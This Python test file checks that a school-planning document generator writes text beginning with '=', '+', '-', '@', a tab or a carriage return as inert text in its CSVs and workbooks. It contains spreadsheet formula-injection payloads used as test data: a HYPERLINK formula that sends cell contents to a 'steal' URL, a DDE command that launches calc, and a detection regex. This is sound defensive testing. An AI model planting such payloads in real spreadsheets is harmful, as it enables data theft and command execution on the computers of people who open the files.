"""Issue 9, formula injection: text a team typed that begins like a formula (`=`, `+`, `-`,
`@`, a tab, a carriage return) is text in every CSV and workbook the tool writes, never a
formula, and reads back exactly as typed."""

from __future__ import annotations

import csv
import json
import re
import zipfile
from pathlib import Path

from conftest import make_workbook, run_cli, sample, school_rows, sha
from lxml import etree
from soffice import convert

from pfs_docgen import schema as s
from pfs_docgen.csv_safe import csv_text, field, typed
from pfs_docgen.workbook import read_workbook, write_workbook

# What a spreadsheet would run: a link out, arithmetic, a function, DDE, hidden behind a tab.
HOSTILE = ['=HYPERLINK("http://example.com/steal?d="&A1,"Click")', "+1+1 Academy",
           "-2+3 School", "@SUM(A1:A9) School", "=cmd|' /C calc'!A0"]
RUNS_AS_FORMULA = re.compile(r"\A(?:\s*[=+\-@]|[\t\r])")


def _formulas(path: Path) -> list[str]:
    """Every <f> element of every worksheet of a saved .xlsx, as 'part: formula'."""
    found = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                root = etree.fromstring(z.read(name))
                found += [f"{name}: {f.text}" for f in root.iter("{*}f")]
    return found


def test_init_schools_writes_roster_text_as_text_that_reads_back_as_typed(tmp_path):
    rows = sample()
    rows[s.SCHOOLS] = [{s.SCHOOL_CODE_COLUMN: f"0999{n:04d}", s.SCHOOL_NAME_COLUMN: name,
                        s.PRINCIPAL_COLUMN: HOSTILE[-1 - n]}
                       for n, name in enumerate(HOSTILE)]
    rows[s.OBJECTIVES][0][s.OBJECTIVE] = "=1+1 reading for every student"
    district = make_workbook(tmp_path, "district.xlsx", rows=rows)
    assert _formulas(district) == []  # our own writer, the fixture's, writes no formula
    before = sha(district)
    result = run_cli("init-schools", district, "-o", tmp_path / "schools")
    assert result.exit_code == 0, result.output
    written = sorted((tmp_path / "schools").glob("*.xlsx"))
    assert len(written) == len(HOSTILE) and sha(district) == before
    names = {}
    for path in written:
        assert _formulas(path) == [], path.name
        book = read_workbook(path)
        names[book.plan_info[s.SCHOOL_NAME].text] = book.plan_info[s.PRINCIPAL].text
        assert not [i for i in book.read_issues if i.is_error], path.name
    assert names == {name: HOSTILE[-1 - n] for n, name in enumerate(HOSTILE)}
    from openpyxl import load_workbook

    lists = load_workbook(written[0])[s.LISTS]  # the drop-down's objective titles, as text
    titles = [c for c in lists.iter_rows(values_only=False) for c in c if c.value ==
              "=1+1 reading for every student"]
    assert titles and all(c.data_type == "s" for c in titles)


def test_a_workbook_cell_typed_like_a_formula_is_stored_as_a_string(tmp_path):
    rows = sample()
    typed_values = {s.MISSION: "=SUM(1,2)", s.VISION: "@vision", s.CORE_VALUES: "-values"}
    for sheet, text in typed_values.items():
        first = next(iter(rows[sheet][0]))
        rows[sheet][0][first] = text
    path = write_workbook(tmp_path / "plan.xlsx", s.DISTRICT, rows)
    assert _formulas(path) == []
    book = read_workbook(path)
    for sheet, text in typed_values.items():
        record = book.records(sheet)[0]
        assert text in record.texts().values()


def test_crosswalk_csv_runs_no_typed_text_and_reads_back_exactly(tmp_path):
    district_rows = sample()
    titles = ["=1+1 Literacy", "\t=HYPERLINK(\"http://example.com\")", "'Quoted' numeracy",
              "-Family engagement"]
    for objective, title in zip(district_rows[s.OBJECTIVES], titles):
        objective[s.OBJECTIVE] = title
    district = make_workbook(tmp_path, "district.xlsx", rows=district_rows)
    folder = tmp_path / "schools"
    schools = {"a.xlsx": HOSTILE[0], "b.xlsx": HOSTILE[3], "c.xlsx": "Plain School"}
    for n, (file, name) in enumerate(schools.items()):
        write_workbook(folder / file, s.SCHOOL, school_rows(name, f"0999{n:04d}"))
    inputs = {p: sha(p) for p in [district, *folder.iterdir()]}
    out = tmp_path / "out"
    result = run_cli("bulk", folder, "--district", district, "-o", out, "--jobs", "1")
    assert result.exit_code == 0, result.output + result.stderr
    assert {p: sha(p) for p in inputs} == inputs
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert {d["path"] for d in manifest["documents"]} == \
        {p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()} - \
        {"manifest.json"}
    path = next((out / "district").glob("*_alignment_*.csv"))
    raw = path.read_bytes().decode("utf-8-sig")
    with path.open(encoding="utf-8-sig", newline="") as f:
        table = list(csv.reader(f))
    fields = [cell for row in table for cell in row]
    assert [f for f in fields if RUNS_AS_FORMULA.match(f)] == []
    assert all(line.startswith('"') and line.endswith('"')  # every field quoted
               for line in raw.split("\r\n") if line)
    assert [typed(c) for c in table[0][4:]] == sorted(schools.values(), key=str.lower)
    assert [typed(row[1]) for row in table[1:]] == titles
    calc = tmp_path / "calc"  # the real client: LibreOffice Calc opens it with no formula
    convert([path], calc, fmt="xlsx")
    assert _formulas(calc / path.with_suffix(".xlsx").name) == []


def test_csv_fields_are_escaped_only_where_a_spreadsheet_would_run_them():
    cases = {"=1": "'=1", "+1": "'+1", "-1": "'-1", "@x": "'@x", "\tx": "'\tx",
             "\rx": "'\rx", "  =1": "'  =1", "'a": "''a", "a=1": "a=1", "": "", "Oak": "Oak",
             "1-2": "1-2", 3: "3"}
    assert {k: field(k) for k in cases} == cases
    assert all(typed(field(k)) == str(k) for k in cases)
    assert csv_text([["=1", "a,b"]]) == '"\'=1","a,b"\r\n'
